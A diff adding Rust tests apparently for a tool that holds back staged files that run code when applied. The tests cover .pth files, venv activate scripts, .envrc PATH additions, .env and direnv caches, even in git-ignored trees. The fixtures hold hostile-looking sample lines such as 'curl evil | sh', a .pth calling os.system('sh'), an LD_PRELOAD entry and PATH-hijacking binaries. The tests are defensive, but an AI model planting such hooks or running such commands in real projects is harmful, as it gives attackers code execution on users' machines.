@@ -67,6 +67,89 @@ fn apply_all_holds_back_every_file_that_runs_code_and_says_how_to_apply_it() {
     assert_eq!(change_counts(&f.store).unwrap().staged, 54, "held back, not discarded");
 }
 
+/// Files host tools load without being named, in trees git ignores: a
+/// virtualenv's `.pth` and scripts, a `bin/` the host's `.envrc` puts on
+/// `PATH`, the `.env` it loads, direnv's cache.
+fn loaded_unnamed() -> Fx {
+    let f = fx();
+    write(&f.ws.join(".gitignore"), b".venv/\nnode_modules/\n.direnv/\nbin/\n.env\nmodels/\n");
+    write(
+        &f.ws.join(".envrc"),
+        b"PATH_add bin\nexport PATH=\"$PWD/tools:$PATH\"\nlayout node\ndotenv\nsource_env scripts/env.sh\n",
+    );
+    write(&f.ws.join(".venv/pyvenv.cfg"), b"home = /usr/bin\n");
+    Set::new(&f.ws)
+        .dir(".direnv", 0o755)
+        .file(".direnv/flake-profile-a1.rc", b"export PATH=/tmp/x:$PATH\n", 0o644)
+        .file(".env", b"LD_PRELOAD=/tmp/x.so\n", 0o644)
+        .dir(".venv/bin", 0o755)
+        .file(".venv/bin/activate", b"curl evil | sh\n", 0o644)
+        .file(".venv/bin/git", b"#!/bin/sh\n", 0o755)
+        .dir(".venv/lib", 0o755)
+        .dir(".venv/lib/python3.12", 0o755)
+        .dir(".venv/lib/python3.12/site-packages", 0o755)
+        .dir(".venv/lib/python3.12/site-packages/pkg", 0o755)
+        .file(".venv/lib/python3.12/site-packages/pkg/__init__.py", b"x = 1\n", 0o644)
+        .file(".venv/lib/python3.12/site-packages/sitecustomize.py", b"import os\n", 0o644)
+        .file(".venv/lib/python3.12/site-packages/x.pth", b"import os; os.system('sh')\n", 0o644)
+        .dir("bin", 0o755)
+        .file("bin/git", b"#!/bin/sh\n", 0o755)
+        .dir("models", 0o755)
+        .file("models/net.pth", b"weights", 0o644)
+        .dir("node_modules", 0o755)
+        .dir("node_modules/.bin", 0o755)
+        .symlink("node_modules/.bin/ls", "../x/ls.js")
+        .dir("node_modules/x", 0o755)
+        .file("node_modules/x/ls.js", b"evil\n", 0o644)
+        .dir("scripts", 0o755)
+        .file("scripts/env.sh", b"curl evil | sh\n", 0o644)
+        .dir("src", 0o755)
+        .file("src/app.py", b"print(1)\n", 0o644)
+        .dir("tools", 0o755)
+        .file("tools/ls", b"#!/bin/sh\n", 0o755)
+        .stage(&f.store);
+    f
+}
+
+#[test]
+fn apply_all_holds_back_files_host_tools_load_unnamed_even_where_git_ignores_them() {
+    let f = loaded_unnamed();
+    let (outcome, out) = run(&f, ApplyMode::All, None);
+    let held = [
+        ".direnv/flake-profile-a1.rc",
+        ".env",
+        ".venv/bin/activate",
+        ".venv/bin/git",
+        ".venv/lib/python3.12/site-packages/sitecustomize.py",
+        ".venv/lib/python3.12/site-packages/x.pth",
+        "bin/git",
+        "node_modules/.bin/ls",
+        "scripts/env.sh",
+        "tools/ls",
+    ];
+    for path in held {
+        assert!(fs::symlink_metadata(f.ws.join(path)).is_err(), "{path} was applied: {out}");
+        assert!(out.contains(&format!("\n  {path}: ")), "{path} not listed as held back: {out}");
+    }
+    assert_eq!(outcome.held_back, held.len(), "{out}");
+    for path in ["src/app.py", "models/net.pth", ".venv/lib/python3.12/site-packages/pkg/__init__.py"] {
+        assert!(f.ws.join(path).exists(), "{path} is ordinary: {out}");
+    }
+}
+
+#[test]
+fn a_staged_envrc_counts_for_what_it_would_put_on_path() {
+    let f = fx();
+    Set::new(&f.ws)
+        .file(".envrc", b"PATH_add tools\n", 0o644)
+        .dir("tools", 0o755)
+        .file("tools/git", b"#!/bin/sh\n", 0o755)
+        .stage(&f.store);
+    let (outcome, out) = run(&f, ApplyMode::All, None);
+    assert_eq!(outcome.held_back, 2, "{out}");
+    assert!(out.contains("\n  tools/git: on PATH"), "{out}");
+}
+
 #[test]
 fn apply_all_with_include_code_applies_them() {
     let f = hostile();
